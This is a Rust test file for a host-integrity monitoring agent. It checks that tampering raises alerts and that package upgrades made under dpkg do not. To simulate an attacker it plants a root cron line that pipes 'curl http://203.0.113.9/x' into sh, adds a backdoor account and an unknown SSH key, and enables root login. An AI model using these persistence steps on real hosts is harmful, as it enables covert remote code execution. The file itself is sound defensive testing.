//! Inventory and integrity of a host, from a root of the test's own: what was there alerts on
//! nothing, what somebody does to it alerts, what a package brings is only recorded.

use std::collections::BTreeSet;
use std::fs;
use std::io::Write;
use std::path::PathBuf;

use hengwei_tests::{Agent, Collector, PATIENCE, Site, wait};
use serde_json::Value;

const SHIPPED: &str = "Port 22\nPermitRootLogin no\n";
/// MD5 of [`SHIPPED`], as dpkg records it.
const SHIPPED_MD5: &str = "990e163ae3562f51f7eed28877ef08a3";
const NEXT: &str = "Port 2222\nPermitRootLogin yes\n";
const NEXT_MD5: &str = "7059e8d1a082e0bde8106fb8aaf3abc4";

/// A small host.
struct Host(PathBuf);

impl Host {
    fn new(site: &Site) -> anyhow::Result<Host> {
        let host = Host(site.path().join("root"));
        host.write("etc/os-release", "ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian 12\"\n")?;
        host.write(
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nnurse:x:1000:1000::/home/nurse:/bin/bash\n",
        )?;
        host.write("etc/group", "root:x:0:\nnurse:x:1000:\n")?;
        host.write("etc/ssh/sshd_config", SHIPPED)?;
        host.write("etc/crontab", "0 3 * * * root /usr/local/bin/backup\n")?;
        host.write("etc/cron.d/backup", "0 4 * * * root /usr/local/bin/backup\n")?;
        host.write("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza admin\n")?;
        fs::create_dir_all(host.0.join("home/nurse"))?;
        host.write("var/lib/dpkg/lock", "")?;
        host.write("var/lib/dpkg/info/openssh-server.list", "/etc/ssh\n")?;
        host.package("1:9.2p1-2", SHIPPED_MD5)?;
        Ok(host)
    }

    fn write(&self, name: &str, text: &str) -> anyhow::Result<()> {
        let path = self.0.join(name);
        fs::create_dir_all(path.parent().expect("a folder"))?;
        Ok(fs::write(path, text)?)
    }

    fn append(&self, name: &str, text: &str) -> anyhow::Result<()> {
        let mut file = fs::OpenOptions::new().append(true).open(self.0.join(name))?;
        Ok(file.write_all(text.as_bytes())?)
    }

    /// What dpkg says of the SSH server: its version, and the digest of its configuration.
    fn package(&self, version: &str, md5: &str) -> anyhow::Result<()> {
        self.write(
            "var/lib/dpkg/status",
            &format!(
                "Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\n\
                 Version: {version}\nConffiles:\n /etc/ssh/sshd_config {md5}\nDescription: server\n\n"
            ),
        )
    }
}

/// An agent that watches that root, once it knows what is there.
fn watched(collector: &Collector, host: &Host) -> anyhow::Result<Agent> {
    let sources = format!("root = {:?}\n[sources.assets]\n[sources.integrity]\n", host.0);
    let agent = collector.agent("agent", "regional-emr", &sources)?;
    wait("the baseline of files", PATIENCE, || {
        let found = collector.rows(&["search", "event.dataset=fim event.action=baseline"])?;
        Ok((!found.is_empty()).then_some(()))
    })?;
    wait("the snapshot", PATIENCE, || {
        let count = |dataset: &str| {
            let query = format!("event.dataset={dataset} event.action=snapshot");
            anyhow::Ok(collector.rows(&["search", &query])?.len())
        };
        Ok((count("asset.package")? == 1 && count("asset.user")? == 2).then_some(()))
    })?;
    Ok(agent)
}

/// Titles of everything that was raised, what waits for review included.
fn raised(collector: &Collector) -> anyhow::Result<BTreeSet<String>> {
    let mut titles = BTreeSet::new();
    for review in [&[][..], &["--review"]] {
        let args = [&["alerts", "list", "--all"], review].concat();
        for alert in collector.rows(&args)? {
            titles.insert(alert["rule"]["title"].as_str().unwrap_or_default().to_owned());
        }
    }
    Ok(titles)
}

fn wait_for(collector: &Collector, titles: &[&str]) -> anyhow::Result<()> {
    wait(&format!("{titles:?}"), PATIENCE, || {
        let raised = raised(collector)?;
        Ok(titles.iter().all(|title| raised.contains(*title)).then_some(()))
    })?;
    let expected: BTreeSet<String> = titles.iter().map(|title| (*title).to_owned()).collect();
    assert_eq!(raised(collector)?, expected, "these and no others");
    Ok(())
}

fn told_of(collector: &Collector, path: &str) -> anyhow::Result<Vec<Value>> {
    collector.rows(&["search", &format!("event.dataset=fim file.path={path}")])
}

#[test]
fn what_was_there_alerts_on_nothing_and_what_is_done_to_it_does() -> anyhow::Result<()> {
    let site = Site::new()?;
    let host = Host::new(&site)?;
    let collector = site.collector("")?;
    let mut agent = watched(&collector, &host)?;
    assert_eq!(raised(&collector)?, BTreeSet::new(), "the first look");
    let inventory = collector.rows(&["hosts", &agent.id])?;
    let shown = serde_json::to_string(&inventory)?;
    assert!(shown.contains("openssh-server") && shown.contains("1:9.2p1-2"), "{shown}");
    assert!(shown.contains("nurse") && shown.contains("Debian 12"), "{shown}");
    agent.stop()?;
    agent.start()?;

    host.append("etc/ssh/sshd_config", "PermitRootLogin yes\n")?;
    wait_for(&collector, &["SSH server configuration changed"])?;
    host.write("home/nurse/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza somebody\n")?;
    let two = ["SSH server configuration changed", "Authorised SSH keys changed"];
    wait_for(&collector, &two)?;
    // What is done while the agent is away is found when it comes back.
    agent.kill();
    host.write("etc/cron.d/updates", "* * * * * root curl -s http://203.0.113.9/x | sh\n")?;
    host.append("etc/passwd", "helper:x:1001:1001::/home/helper:/bin/bash\n")?;
    agent.start()?;
    let five =
        [two[0], two[1], "Scheduled job changed", "New account", "Two ways back laid at once"];
    wait_for(&collector, &five)?;

    let entities: Vec<String> = collector
        .rows(&["alerts", "list", "--all"])?
        .iter()
        .map(|alert| alert["entity"]["value"].as_str().unwrap_or_default().to_owned())
        .collect();
    for named in ["/etc/ssh/sshd_config", "/home/nurse/.ssh/authorized_keys", "/etc/cron.d/updates"]
    {
        assert!(entities.iter().any(|entity| entity.contains(named)), "{named}: {entities:?}");
    }
    assert!(entities.iter().any(|entity| entity.contains("helper")), "{entities:?}");
    let inventory = serde_json::to_string(&collector.rows(&["hosts", &agent.id])?)?;
    assert!(inventory.contains("helper"), "the inventory follows: {inventory}");
    Ok(())
}

#[test]
fn what_a_package_brings_is_recorded_and_alerts_on_nothing() -> anyhow::Result<()> {
    const CONFIG: &str = "/etc/ssh/sshd_config";
    let site = Site::new()?;
    let host = Host::new(&site)?;
    let collector = site.collector("")?;
    let _agent = watched(&collector, &host)?;

    // As dpkg does it: under its lock, first the file and then the record of it.
    let lock = fs::OpenOptions::new().write(true).open(host.0.join("var/lib/dpkg/lock"))?;
    rustix::fs::fcntl_lock(&lock, rustix::fs::FlockOperation::LockExclusive)?;
    host.write("etc/ssh/sshd_config.dpkg-new", NEXT)?;
    fs::rename(host.0.join("etc/ssh/sshd_config.dpkg-new"), host.0.join("etc/ssh/sshd_config"))?;
    std::thread::sleep(std::time::Duration::from_secs(2));
    assert!(told_of(&collector, CONFIG)?.is_empty(), "not while dpkg is at work");
    host.package("1:9.2p1-3", NEXT_MD5)?;
    drop(lock);

    let told = wait("the change", PATIENCE, || Ok(told_of(&collector, CONFIG)?.pop()))?;
    assert_eq!(told["event.action"], "changed", "{told}");
    assert_eq!(told["hengwei.fim.package"], "openssh-server", "{told}");
    assert_eq!(told["hengwei.fim.package_match"], true, "{told}");
    wait("the new version in the inventory", PATIENCE, || {
        let args = ["search", "event.dataset=asset.package event.action=changed"];
        let found = collector.rows(&args)?;
        Ok(found.iter().any(|row| row["package.version"] == "1:9.2p1-3").then_some(()))
    })?;
    assert_eq!(raised(&collector)?, BTreeSet::new());

    // By hand it is another matter, be it back to what the package brought before.
    host.write("etc/ssh/sshd_config", SHIPPED)?;
    wait_for(&collector, &["SSH server configuration changed"])?;
    let told = told_of(&collector, CONFIG)?;
    assert_eq!(told.len(), 2, "{told:?}");
    assert!(told.iter().any(|row| row["hengwei.fim.package_match"] == false), "{told:?}");
    Ok(())
}

#[test]
fn an_agent_that_stops_in_good_order_is_stopped_and_not_lost() -> anyhow::Result<()> {
    let site = Site::new()?;
    let host = Host::new(&site)?;
    let mut collector = site.collector("")?;
    let mut agent = watched(&collector, &host)?;
    let state = |collector: &Collector, wanted: &str| {
        wait(&format!("the host to be {wanted}"), PATIENCE, || {
            let hosts = collector.rows(&["hosts"])?;
            Ok((hosts[0]["presence"] == wanted).then_some(()))
        })
    };
    state(&collector, "reporting")?;
    agent.stop()?;
    state(&collector, "stopped")?;
    // It said so once, and is not asked again by a collector that was started anew.
    collector.stop()?;
    collector.start()?;
    state(&collector, "stopped")?;
    agent.start()?;
    state(&collector, "reporting")?;
    // A kill says nothing, so it must not look like a good-bye.
    agent.kill();
    wait("the connection to be gone", PATIENCE, || {
        Ok(collector.metrics_text()?.contains("\nhengwei_connections 0\n").then_some(()))
    })?;
    state(&collector, "silent")?;
    assert_eq!(raised(&collector)?, BTreeSet::new(), "and nothing is said of either so far");
    collector.stop()
}
